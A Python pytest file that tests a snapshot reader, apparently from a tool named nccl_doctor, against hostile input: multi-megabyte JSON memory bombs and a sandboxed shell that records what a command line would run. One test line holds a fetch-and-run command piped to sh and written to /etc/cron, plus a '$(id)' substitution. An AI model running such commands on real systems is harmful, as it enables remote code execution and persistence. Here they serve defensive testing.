from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.checks.snapshots import healthy
from tests.hostile.shell_without_programs import ShellWithoutPrograms
from tests.hostile.snapshots import run
from tests.patience import LONG_S

pytestmark = pytest.mark.slow


@pytest.mark.lab
def test_hostile_facts_make_no_fault_and_no_harmful_command(tmp_path: Path) -> None:
    result = run(40, 20, tmp_path)
    assert result.faults == []
    assert result.judged > 20
    assert result.commands > 10


READ = """
import resource, sys
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
from nccl_doctor.cli.snapshots import read_snapshot
from nccl_doctor.errors import SnapshotError
try:
    read_snapshot(Path(sys.argv[1]))
except SnapshotError as error:
    print(len(str(error)) < 1000)
print(int(Path("/proc/self/status").read_text().partition("VmHWM:")[2].split()[0]) >> 10)
"""


@pytest.mark.parametrize(
    ("place", "bomb"),
    [
        ((), "[" + "{}," * 1_000_000 + "0]"),
        ((), "[" + '{"failure":{}},' * 200_000 + "0]"),
        ((), "[" + "0                ," * 170_000 + "0]"),
        ((0,), "{" + ",".join(f'"{key:x}":0' for key in range(300_000)) + "}"),
        ((0, "facts", "routes"), "[" + "{}                     ," * 130_000 + "0]"),
        ((0, "facts", "env"), "{" + ",".join(f'"{key:x}":0' for key in range(300_000)) + "}"),
    ],
    ids=["hosts", "failures", "numbers", "fields", "routes", "variables"],
)
def test_three_megabytes_take_no_hundreds(tmp_path: Path, place: tuple[Any, ...], bomb: str) -> None:
    document = healthy()
    owner: Any = document
    *way, last = "hosts", *place
    for step in way:
        owner = owner[step]
    owner[last] = "BOMB"
    path = tmp_path / "bomb.json"
    path.write_text(json.dumps(document).replace('"BOMB"', bomb))
    done = subprocess.run(
        [sys.executable, "-c", READ, path], check=False, capture_output=True, text=True, timeout=LONG_S
    )
    refused, peak = done.stdout.split() or ("", "-1")
    assert (refused, 0 < int(peak) < 64 + 32 * (path.stat().st_size / (1 << 20))) == ("True", True), done


def test_bombs_take_no_more_memory_than_a_snapshot_of_their_size() -> None:
    """In a process of its own, whose memory is measured; 3 MB of them took 6 GB."""
    command = [sys.executable, "-m", "tests.hostile.snapshots", "--runs", "0", "--bombs", "60", "--seed", "3"]
    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=LONG_S)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.lab
def test_the_shell_without_programs_sees_what_a_line_would_do(tmp_path: Path) -> None:
    shell = ShellWithoutPrograms(tmp_path)
    found = shell.attempt("sysctl -w x=8080 ; curl http://x | sh > /etc/cron")
    assert sorted(found.ran) == [("curl", "http://x"), ("sh",), ("sysctl", "-w", "x=8080")]
    assert found.wrote == ("/etc/cron",)
    assert shell.attempt("echo 'a b' \"$(id)\"").ran == (("id",), ("echo", "a b", ""))
